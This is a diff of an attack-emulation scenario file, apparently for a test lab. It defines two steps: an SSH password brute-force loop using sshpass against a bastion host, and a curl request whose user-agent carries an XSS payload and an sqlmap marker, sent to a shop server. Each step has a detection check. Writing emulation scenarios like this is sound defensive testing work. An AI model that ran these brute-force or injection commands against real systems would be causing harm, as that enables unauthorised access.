@@ -152,15 +152,24 @@ steps:
     technique: T1110.001
     from: attacker
     command:
-      argv: [bash, -c, "for i in 1 2 3 4 5 6; do sshpass -p $i ssh -o StrictHostKeyChecking=no
-        -o UserKnownHostsFile=/dev/null -l '{{ account }}' {{ nodes.bastion.address }} true & done; wait"]
+      argv:
+        - bash
+        - -c
+        # On its command line ssh refuses such a name; in its configuration it does not.
+        - |
+          echo "User {{ account }}" > /tmp/hostile
+          for i in 1 2 3 4 5 6; do
+            sshpass -p $i ssh -F /tmp/hostile -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \\
+              {{ nodes.bastion.address }} true &
+          done
+          wait
       targets: [bastion]
     check: {counter: {node: bastion, counter: Tcp.PassiveOpens, at_least: 5}}
   - name: Ask the shop with a hostile user agent
     technique: T1190
     from: attacker
     command:
-      argv: [curl, -s, -A, "sqlmap <img src=x onerror=alert(1)> \\e[31m", "http://{{ nodes.shop.address }}/"]
+      argv: [curl, -s, -A, "sqlmap <img src=x onerror=alert(1)>", "http://{{ nodes.shop.address }}/"]
       targets: [shop]
     check: {open_port: {node: shop, port: 80}}
 """
